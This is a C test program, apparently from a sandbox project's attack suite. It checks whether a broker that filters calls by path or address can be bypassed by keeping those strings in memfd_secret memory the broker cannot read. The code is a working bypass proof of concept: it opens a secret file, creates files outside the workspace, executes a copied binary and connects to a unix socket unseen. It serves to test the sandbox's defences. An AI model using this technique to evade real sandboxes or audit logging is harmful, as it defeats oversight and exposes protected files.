// Attack: keep the path or address of a brokered call where the broker
// cannot read it. The kernel reads a task's own memory with copy_from_user;
// the broker reads it from outside (process_vm_readv, /proc/PID/mem), and
// memory of memfd_secret is closed to every access from outside. So the
// kernel opens, executes and connects to what the broker never saw: a rule
// by path or address judged nothing, and the audit record named nothing.
// Each attempt is made twice, with its string in ordinary memory ("plain")
// and in secret memory ("secret"):
//   NAME-read-secret     open the secret outside the workspace for reading
//   NAME-create-outside  create a file next to it
//   NAME-create-ws       create a file in the workspace (allowed everywhere)
//   NAME-exec            execute a copy of this program in /tmp, which
//                        leaves ./exec-NAME in the workspace when it runs
//   NAME-connect         connect to the host's unix listener ($ZVIZ_ATTACK_UNIX)
// "secret-memory ok" says memfd_secret worked (else its errno, and the
// "secret" round uses ordinary memory too).
#include "attack.h"

#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>

#ifndef SYS_memfd_secret
#define SYS_memfd_secret 447
#endif

static void round_in(const char* name, char* mem, const char* secret, const char* outside, const char* unix_path,
                     const char* copy) {
  char key[64];
  // Each string is placed in `mem` just before the call that uses it.
  snprintf(key, sizeof(key), "%s-read-secret", name);
  strcpy(mem, secret);
  open_outcome(key, open(mem, O_RDONLY | O_CLOEXEC));

  snprintf(key, sizeof(key), "%s-create-outside", name);
  snprintf(mem, 4096, "%s/created-%s", outside, name);
  int fd = open(mem, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
  outcome(key, fd);
  if (fd >= 0) close(fd);

  snprintf(key, sizeof(key), "%s-create-ws", name);
  snprintf(mem, 4096, "ws-%s", name);
  fd = open(mem, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
  outcome(key, fd);
  if (fd >= 0) close(fd);

  snprintf(key, sizeof(key), "%s-exec", name);
  strcpy(mem, copy);
  char marker[64];
  snprintf(marker, sizeof(marker), "exec-%s", name);
  char* argv[] = {mem, "marker", marker, NULL};
  pid_t pid = fork();
  if (pid == 0) {
    execve(mem, argv, (char*[]){NULL});
    outcome(key, -1);
    _exit(1);
  }
  int status = 0;
  waitpid(pid, &status, 0);
  if (WIFEXITED(status) && WEXITSTATUS(status) == 0) say("%s ok", key);

  snprintf(key, sizeof(key), "%s-connect", name);
  struct sockaddr_un* un = (struct sockaddr_un*)mem;
  memset(un, 0, sizeof(*un));
  un->sun_family = AF_UNIX;
  snprintf(un->sun_path, sizeof(un->sun_path), "%s", unix_path);
  int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  outcome(key, connect(s, (struct sockaddr*)un, sizeof(*un)));
  if (s >= 0) close(s);
}

int main(int argc, char** argv) {
  if (argc == 3 && strcmp(argv[1], "marker") == 0) {
    // The executed copy: leave the marker in the workspace (the working directory).
    int fd = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC, 0644);
    return fd >= 0 ? 0 : 1;
  }
  const char* secret = need_env("ZVIZ_ATTACK_SECRET");
  const char* outside = need_env("ZVIZ_ATTACK_OUTSIDE");
  const char* unix_path = need_env("ZVIZ_ATTACK_UNIX");
  const char* copy = "/tmp/zviz-secretmem-copy";
  outcome("copy", copy_self(copy));

  char* plain = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  char* hidden = plain;
  int fd = (int)syscall(SYS_memfd_secret, 0);
  outcome("secret-memory", fd);
  if (fd >= 0) {
    if (ftruncate(fd, 4096) != 0) return 2;
    hidden = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (hidden == MAP_FAILED) return 2;
  }
  round_in("plain", plain, secret, outside, unix_path, copy);
  round_in("secret", hidden, secret, outside, unix_path, copy);
  unlink(copy);
  say("finished ok");
  return 0;
}
